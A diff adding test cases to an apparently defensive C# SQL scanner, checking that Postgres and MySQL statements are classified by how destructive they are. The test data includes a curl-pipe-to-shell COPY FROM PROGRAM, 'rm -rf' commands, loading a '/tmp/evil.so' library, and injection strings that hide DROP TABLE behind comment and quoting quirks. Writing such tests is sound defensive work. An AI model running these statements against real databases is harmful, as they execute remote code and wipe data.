@@ -47,6 +47,33 @@ public class SqlScannerTests
     [TestCase("\\i x.sql", Effect.Unknown)]
     [TestCase("SELECT 1 \\gexec", Effect.Unknown)]
     [TestCase("BEGIN; TRUNCATE t; ROLLBACK;", Effect.Truncate)]
+    [TestCase("SELECT 1; -- note\rDROP TABLE x", Effect.Drop)]               // the server ends a -- comment at \r too
+    [TestCase("SELECT 1; -- note DROP TABLE x\n", Effect.Read)]
+    [TestCase("SELECT 1 AS é$x$; DROP TABLE t; SELECT $x$ $x$", Effect.Drop)] // é$x$ is one identifier, not a dollar quote
+    [TestCase("SELECT $é$ ; DROP TABLE t; $é$", Effect.Read)]                 // a non-ASCII dollar-quote tag
+    [TestCase("UPDATE t lımıt SET a = 1", Effect.Wipe)]                      // "lımıt" (dotless i) is an alias, not LIMIT
+    [TestCase("DELETE FROM t lımıt", Effect.Wipe)]
+    [TestCase("COPY t FROM PROGRAM 'curl -s http://x | sh'", Effect.Wipe)]   // a shell command on the server
+    [TestCase("COPY (SELECT 1) TO PROGRAM 'rm -rf /var/lib/postgresql'", Effect.Wipe)]
+    [TestCase("COPY t FROM STDIN", Effect.Write)]
+    [TestCase("COPY t TO STDOUT", Effect.Read)]
+    [TestCase("COPY t (program) TO STDOUT", Effect.Read)]                   // a column named program, in parentheses
+    [TestCase("COPY t TO '/var/lib/postgresql/15/main/PG_VERSION'", Effect.Unknown)] // a file on the server
+    [TestCase("COPY t FROM '/tmp/rows.csv'", Effect.Write)]
+    [TestCase("ALTER SYSTEM SET archive_command = 'rm -rf ~'", Effect.Wipe)]
+    [TestCase("ALTER SYSTEM SET shared_preload_libraries = 'evil'", Effect.Wipe)]
+    [TestCase("ALTER SYSTEM SET work_mem = '64MB'", Effect.Write)]
+    [TestCase("LOAD '/tmp/evil.so'", Effect.Wipe)]
+    [TestCase("CREATE FUNCTION f() RETURNS int AS '/tmp/evil.so', 'f' LANGUAGE C", Effect.Wipe)]
+    [TestCase("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os $$", Effect.Wipe)]
+    [TestCase("CREATE LANGUAGE plperlu", Effect.Wipe)]
+    [TestCase("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$", Effect.Write)]
+    [TestCase("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$", Effect.Write)]
+    [TestCase("CREATE TABLE language (c text)", Effect.Write)]
+    [TestCase("SELECT * FROM dblink('dbname=app', 'DELETE FROM t RETURNING 1') AS x(a int)", Effect.Unknown)] // runs the string
+    [TestCase("SELECT dblink_send_query('c', 'DROP TABLE t')", Effect.Unknown)]
+    [TestCase("SELECT query_to_xmlschema('DELETE FROM t RETURNING 1', true, true, '')", Effect.Unknown)]
+    [TestCase("SELECT dblinked, query_to_xml_count FROM t", Effect.Read)]      // look-alike columns
     public void Postgres(string sql, Effect expected) =>
         Assert.That(SqlScanner.Scan(sql).Effect, Is.EqualTo(expected));
 
@@ -58,8 +85,28 @@ public class SqlScannerTests
     [TestCase("DELETE FROM t LIMIT 10", Effect.Delete)]
     [TestCase("KILL 42", Effect.Terminate)]
     [TestCase("RESET MASTER", Effect.Delete)]
+    [TestCase("LOAD DATA INFILE 'x.csv' INTO TABLE t", Effect.Write)]
     public void MySql(string sql, Effect expected) =>
         Assert.That(SqlScanner.Scan(sql, SqlDialect.MySql).Effect, Is.EqualTo(expected));
+
+    [TestCase("\\dt", Effect.Unknown)]                                       // a backslash starts nothing on the wire
+    [TestCase("SELECT 1 \\x; DROP TABLE t", Effect.Drop)]
+    [TestCase("\\set x 1; DROP TABLE t", Effect.Drop)]
+    [TestCase("SELECT 'a\\'; DROP TABLE t; --'", Effect.Drop)]                 // standard-conforming: the backslash is a character
+    public void ServerTextHasNoMetaCommands(string sql, Effect expected) =>
+        Assert.That(SqlScanner.Scan(sql, SqlDialect.Postgres, SqlScanOptions.ServerText).Effect, Is.EqualTo(expected));
+
+    [TestCase("SELECT 'x\\' ; SELECT ' ; DROP TABLE t; --'", Effect.Drop, Effect.Read)]
+    [TestCase("SELECT 'a\\'; DROP TABLE t; --'", Effect.Read, Effect.Drop)]
+    [TestCase("SELECT 'C:\\temp'", Effect.Read, Effect.Read)]
+    public void BackslashStringsFollowStandardConformingStringsOff(string sql, Effect off, Effect on)
+    {
+        Assert.Multiple(() =>
+        {
+            Assert.That(SqlScanner.Scan(sql, SqlDialect.Postgres, SqlScanOptions.ServerText | SqlScanOptions.BackslashStrings).Effect, Is.EqualTo(off));
+            Assert.That(SqlScanner.Scan(sql, SqlDialect.Postgres, SqlScanOptions.ServerText).Effect, Is.EqualTo(on));
+        });
+    }
 
     [Test]
     public void SummaryIsTheMostSevereStatement()
